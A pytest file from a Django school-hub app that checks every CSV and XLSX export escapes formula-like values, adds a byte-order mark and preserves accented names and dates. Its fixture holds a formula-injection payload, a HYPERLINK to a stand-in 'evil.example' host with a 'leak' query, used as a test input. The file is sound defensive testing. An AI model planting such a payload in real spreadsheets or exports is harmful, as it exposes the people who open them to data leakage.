"""Safe exports: a hostile name and a non-ASCII name go through every CSV and XLSX export the
hub has (the apps' own and the admin's), and each file is read back: no formula cell, a
byte-order mark on every CSV, the name intact, dates as dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from hubops import exports
from hubops.models import School
from hubops.resources import SAFE_FORMATS, HubResource, SafeExportMixin
from hubops.roles import Role
from tests.factories import PASSWORD, HubFactory, SchoolFactory, StaffFactory, UserFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?leak","Click me")'
IRISH = "Zoë Ó Dálaigh"


# -- the function itself -------------------------------------------------------------------------


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_writes_formula_starts_as_text(first):
    assert exports.safe_cell(first + "1+1") == "'" + first + "1+1"


def test_safe_cell_keeps_ordinary_values():
    assert exports.safe_cell(IRISH) == IRISH
    assert exports.safe_cell(-3) == -3  # a number is not text that could be a formula
    assert exports.safe_cell(dt.date(2026, 3, 1)) == dt.date(2026, 3, 1)
    assert exports.safe_cell(None) == ""


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "a CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell may be a formula"
    return sheet, cells


def assert_csv_safe(content: bytes, *, names=(HOSTILE, IRISH)) -> list[list[str]]:
    rows = read_csv(content)
    flat = [v for row in rows for v in row]
    for value in flat:
        assert not value.startswith(exports.DANGEROUS_FIRST), value
    if HOSTILE in names:
        assert "'" + HOSTILE in flat
    if IRISH in names:
        assert IRISH in flat
    return rows


# -- the people and records the exports hold -----------------------------------------------------


@pytest.fixture
def staff(db, settings):
    settings.HUBOPS_REQUIRE_STAFF_MFA = False
    return StaffFactory(
        email="exporter@example.org",
        full_name="Erin Exporter",
        is_superuser=True,
        roles=[
            Role.HUB_STAFF,
            Role.MHL,
            Role.COMPLAINTS_HANDLER,
            Role.DATA_PROTECTION_LEAD,
        ],
    )


@pytest.fixture
def staff_client(client, staff):
    client.login(email=staff.email, password=PASSWORD)
    return client


@pytest.fixture
def hostile_people(db):
    """A participant, a role holder and a school named with a formula and with accents."""
    from tests.workgroups.conftest import make_group
    from workgroups import services
    from workgroups.models import Project, ProjectKind

    HubFactory()
    year = __import__("hubops.models", fromlist=["AcademicYear"]).AcademicYear.objects.create(
        name="2025/26", starts_on=dt.date(2025, 9, 1), ends_on=dt.date(2026, 8, 31)
    )
    project = Project.objects.create(
        code="NCP 25-07",
        title="Teaching for Mastery",
        kind=ProjectKind.NCP,
        academic_year=year,
        phase="primary",
    )
    group = make_group(project, code="WG-X", capacity=5)
    group.places_per_school = 4
    group.save(update_fields=["places_per_school"])
    school = SchoolFactory(name=HOSTILE, opened_on=dt.date(1999, 9, 1))
    SchoolFactory(name=IRISH, opened_on=dt.date(2001, 9, 1))
    for name, email in ((HOSTILE, "hostile@example.org"), (IRISH, "zoe@example.org")):
        user = UserFactory(full_name=name, email=email, roles=[Role.WORK_GROUP_LEAD])
        services.registration_create(
            group_id=group.pk,
            user=user,
            school_id=school.pk,
            role_at_school="-Teacher",
            today=dt.date(2026, 1, 12),
        )
    return school


def test_participation_csv_and_xlsx(staff_client, hostile_people):
    url = reverse("workgroups_staff:exports")
    # The export is a POST (it is logged, and recorded in the sharing log).
    response = staff_client.post(url, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = assert_csv_safe(response.content)
    assert "'-Teacher" in [v for row in rows for v in row]
    sheet, cells = read_xlsx(staff_client.post(url, {"format": "xlsx"}).content)
    values = [c.value for c in cells]
    assert "'" + HOSTILE in values and IRISH in values and HOSTILE not in values


def test_key_contacts_csv(staff_client, hostile_people):
    assert_csv_safe(staff_client.get("/staff/privacy/key-contacts.csv").content)


def test_complaints_log_csv(staff_client, hostile_people, django_capture_on_commit_callbacks):
    from complaints import services
    from hubops.calendar_io import load_plans, parse_calendar
    from tests.complaints.conftest import SHEFFIELD, complaint_data

    with django_capture_on_commit_callbacks(execute=True):
        load_plans(parse_calendar(SHEFFIELD.read_text()))
        complaint = services.complaint_file(
            data=complaint_data(full_name=IRISH),
            received_on=dt.date(2026, 1, 14),
            formal=True,
        ).complaint
    rows = assert_csv_safe(staff_client.get("/staff/complaints/log.csv").content, names=())
    assert rows[1][0] == complaint.reference and rows[1][1] == "2026-01-14"


def test_data_request_log_csv(staff_client, staff, hostile_people):
    from privacy import services

    request = services.create_request(
        kind="access",
        full_name=IRISH,
        email="zoe@example.org",
        received_on=dt.date(2026, 1, 14),
        actor=staff,
        identity_confirmed_by_staff=True,
    )
    services.close_request(
        request.pk,
        status="completed",
        outcome=HOSTILE,
        actor=staff,
        today=dt.date(2026, 1, 20),
    )
    rows = assert_csv_safe(
        staff_client.get("/staff/privacy/requests.csv").content, names=(HOSTILE,)
    )
    assert rows[1][0] == request.reference


@pytest.mark.parametrize("index", range(len(SAFE_FORMATS)))
def test_admin_exports_of_every_exportable_model(staff_client, hostile_people, index):
    """Every admin with an export offers only the safe formats, and its file is safe."""
    exportable = [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exportable, "the admin has at least the schools export"
    for model, model_admin in exportable:
        assert isinstance(model_admin, SafeExportMixin), model
        assert [type(f()) for f in model_admin.get_export_formats()] == SAFE_FORMATS
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, HubResource), resource
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        form = staff_client.get(url).content.decode()
        ticked = dict.fromkeys(re.findall(r'type="checkbox" name="([^"]+)"', form), "on")
        assert ticked, "the export form lists the fields to export"
        response = staff_client.post(url, {"format": str(index), "resource": "0", **ticked})
        assert response.status_code == 200, response.content[:500]
        if SAFE_FORMATS[index].__name__ == "SafeCSV":
            assert_csv_safe(response.content)
        else:
            sheet, cells = read_xlsx(response.content)
            values = [c.value for c in cells]
            assert "'" + HOSTILE in values and IRISH in values
            if model is School:
                header = [c.value for c in next(sheet.iter_rows(max_row=1))]
                opened = header.index("opened_on")
                dates = [row[opened].value for row in sheet.iter_rows(min_row=2)]
                assert dt.datetime(1999, 9, 1) in dates  # noqa: DTZ001 - a date cell: openpyxl reads it naive


def test_no_export_writes_spreadsheets_by_itself():
    """One place writes CSV and XLSX: hubops.exports. (Reading an import is fine.)"""
    writer = re.compile(r'csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|content_type="text/csv')
    offenders = []
    for path in ROOT.glob("*/*.py"):
        if path.parts[-2] in {"tests", ".venv", "node_modules", "bench", "scripts"}:
            continue
        if path.relative_to(ROOT).as_posix() == "hubops/exports.py":
            continue
        if writer.search(path.read_text()):
            offenders.append(path.relative_to(ROOT).as_posix())
    assert offenders == []
